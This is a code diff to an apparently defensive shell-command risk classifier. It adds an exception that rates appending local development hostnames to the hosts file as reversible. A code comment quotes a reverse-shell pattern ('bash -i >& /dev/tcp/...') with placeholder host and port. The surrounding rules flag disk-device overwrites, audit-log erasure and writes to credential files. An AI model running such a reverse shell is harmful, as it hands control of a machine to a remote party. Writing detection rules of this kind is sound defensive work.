@@ -4,7 +4,8 @@ import { detectEnv, pathKind, type PathKind } from '../context';
 import { f, type Finding, ladder, readSecret, snippet, unplacedRun } from '../findings';
 import { hasFlag, optValue, positionals, SHELLS, type Cmd } from '../shell/parse';
 import { readHttp, type HttpCall } from '../readers/http';
-import { removesCheck } from '../readers/files';
+import { HOSTS_FILE, localHostsEntries, removesCheck } from '../readers/files';
+import { appendedText } from '../readers/writes';
 import { readOp, splitName } from '../readers/words';
 import { ADMIN_PRINCIPAL, judge, M, type Verb } from '../meaning';
 import { commandFamily, type Handler } from './types';
@@ -152,6 +153,13 @@ export const DEV_ENV_FILE = /(?:^|\/)\.env\.(?:development|dev|local|test|testin
 /** cls-benign15: NAME=value where neither says credential. */
 export const PLAIN_SETTING = /^(?![A-Z0-9_]*(?:SECRET|TOKEN|KEY|PASS|PWD|CREDENTIAL|AUTH|PRIVATE|DSN|URL|URI|SALT|COOKIE|SESSION|CERT|USER|LOGIN))[A-Z][A-Z0-9_]*=(?:[\w.:/-]{0,40}|"[\w .:/-]{0,40}"|'[\w .:/-]{0,40}')$/;
 
+/** cls-benign17: text appended to the hosts file that only names development machines on local addresses. */
+function devHostsAppend(cmd: Cmd, target: string): boolean {
+  if (!HOSTS_FILE.test(target)) return false;
+  const text = appendedText(cmd);
+  return text !== null && localHostsEntries(text);
+}
+
 function redirectFindings(cmd: Cmd, emptyWrite: boolean): Finding[] {
   const out: Finding[] = [];
   // (\`bash -i >& /dev/tcp/h/p\`: the lexer keeps a target written after a spaced \`>&\` as a word, so a shell's word naming
@@ -173,7 +181,8 @@ function redirectFindings(cmd: Cmd, emptyWrite: boolean): Finding[] {
     if (k === 'device') out.push(f('forbidden', `overwrites the raw disk device ${r.target}`));
     else if (k === 'auditlog') out.push(f('forbidden', `${append ? 'writes into' : 'erases'} a security audit log (${r.target})`));
     else if (append) {
-      if (k === 'critical' || k === 'system') out.push(f('dangerous', `appends to a system file (${r.target})`));
+      if ((k === 'critical' || k === 'system') && devHostsAppend(cmd, r.target)) out.push(f('reversible', `adds a local name for a development machine to the hosts file (${r.target})`));
+      else if (k === 'critical' || k === 'system') out.push(f('dangerous', `appends to a system file (${r.target})`));
       else if (k === 'secret' && plainDevSetting(cmd, r.target)) out.push(f('reversible', `appends a setting that holds no credential to a dev environment file (${r.target})`));
       else if (k === 'secret') out.push(f('destructive', `writes into a credentials file (${r.target})`));
       else out.push(f('reversible', `appends output to ${r.target}`));
@@ -547,6 +556,7 @@ const tee: Handler = (cmd) => {
   for (const p of positionals(cmd.args)) {
     const k = pathKind(p);
     if (k === 'device') out.push(f('forbidden', `writes over a raw disk device (${p})`));
+    else if ((k === 'critical' || k === 'system') && append && devHostsAppend(cmd, p)) out.push(f('reversible', `adds a local name for a development machine to the hosts file (${p})`));
     else if (k === 'critical' || k === 'system') out.push(f('dangerous', `${append ? 'appends to' : 'overwrites'} a system file${cmd.sudo ? ' as root' : ''} (${p})`));
     else if (k === 'auditlog') out.push(f('forbidden', `writes into a security audit log (${p})`));
     else if (k === 'secret') out.push(f('destructive', `writes into a credentials file (${p})`));
